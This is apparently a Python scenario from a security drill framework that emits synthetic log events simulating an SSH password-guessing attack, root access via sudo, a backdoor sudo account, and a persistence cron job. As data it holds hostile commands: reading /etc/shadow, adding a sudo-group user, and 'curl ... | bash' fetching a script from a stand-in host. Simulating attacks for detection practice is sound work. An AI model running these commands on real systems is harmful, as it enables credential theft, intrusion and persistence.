"""Passwords are guessed over SSH until one fits; then root, a new account and a cron job that calls home."""

from __future__ import annotations

from ringfence.drills.scenarios.stage import Stage
from ringfence.drills.sources import linux, network

ATTACKER = "198.51.100.201"
HOME = "198.51.100.202"
_KNOWN = ("root", "deploy", "backup")
_GUESSED = ("admin", "oracle", "postgres", "test", "ubuntu", "git", "jenkins", "ftpuser")
TRIES = 340


def play(stage: Stage) -> None:
    """Play the whole attack on the bastion."""
    _guess(stage)
    _enter(stage)
    _persist(stage)


def _guess(stage: Stage) -> None:
    host, rng = stage.company.host("bastion01"), stage.rng
    names = _KNOWN + _GUESSED
    stage.step("T1110.001", "credential-access", "340 wrong passwords for 11 names over SSH", ATTACKER, host.name)
    stage.emit(
        network.firewall(
            stage.now,
            stage.company.host("fw01"),
            verdict="FW-ACCEPT",
            src=ATTACKER,
            dst=host.ip,
            sport=50_022,
            dport=22,
        )
    )
    for number in range(TRIES):
        user = names[number % len(names)]
        pid, port = 12_000 + number * 2, 33_000 + rng.randrange(25_000)
        if user not in _KNOWN:
            stage.emit(linux.ssh_invalid(stage.now, host, user=user, ip=ATTACKER, port=port, pid=pid))
        stage.wait(0.4 + rng.random())
        stage.emit(linux.ssh_failed(stage.now, host, user=user, ip=ATTACKER, port=port, pid=pid, known=user in _KNOWN))


def _enter(stage: Stage) -> None:
    host = stage.company.host("bastion01")
    stage.wait(4)
    stage.step("T1078.003", "initial-access", "The password of deploy is accepted", ATTACKER, host.name, "deploy")
    stage.emit(
        linux.ssh_accepted(stage.now, host, user="deploy", ip=ATTACKER, port=58_114, pid=12_900, method="password")
    )
    stage.wait(0.1)
    stage.emit(linux.session(stage.now, host, program="sshd", user="deploy", pid=12_900, opened=True))
    stage.wait(20)
    stage.step("T1548.003", "privilege-escalation", "deploy looks round and becomes root by sudo", host.name, "deploy")
    for command in ("/usr/bin/id", "/usr/bin/cat /etc/shadow", "/bin/bash"):
        stage.emit(linux.sudo(stage.now, host, user="deploy", command=command, pid=12_950))
        stage.emit(linux.session(stage.now, host, program="sudo", user="root", pid=12_950, opened=True))
        stage.wait(12)


def _persist(stage: Stage) -> None:
    host = stage.company.host("bastion01")
    stage.step("T1136.001", "persistence", "An account sysupdate with sudo rights is made", host.name, "sysupdate")
    stage.emit(
        linux.sudo(
            stage.now, host, user="deploy", command="/usr/sbin/useradd -m -s /bin/bash -G sudo sysupdate", pid=12_960
        )
    )
    stage.emit(linux.account_added(stage.wait(0.2), host, login="sysupdate", uid=1043, pid=12_961))
    stage.emit(linux.group_added(stage.wait(0.1), host, login="sysupdate", group="sudo", pid=12_961))
    stage.wait(25)
    stage.step("T1053.003", "persistence", "A cron job fetches and runs a script every 10 minutes", host.name, HOME)
    stage.emit(
        linux.audit_write(
            stage.now, host, exe="/usr/bin/tee", path="/etc/cron.d/sysupdate", pid=12_970, uid=0, auid=1002, key="cron"
        )
    )
    command = f"curl -fsSL http://{HOME}/u.sh | bash"
    stage.wait(60)
    stage.emit(linux.cron(stage.now, host, user="root", command=command, pid=13_001))
    stage.emit(
        linux.audit_exec(
            stage.wait(0.1),
            host,
            exe="/usr/bin/dash",
            argv=("/bin/sh", "-c", command),
            pid=13_002,
            ppid=13_001,
            uid=0,
            auid=0,
            key="exec",
        )
    )
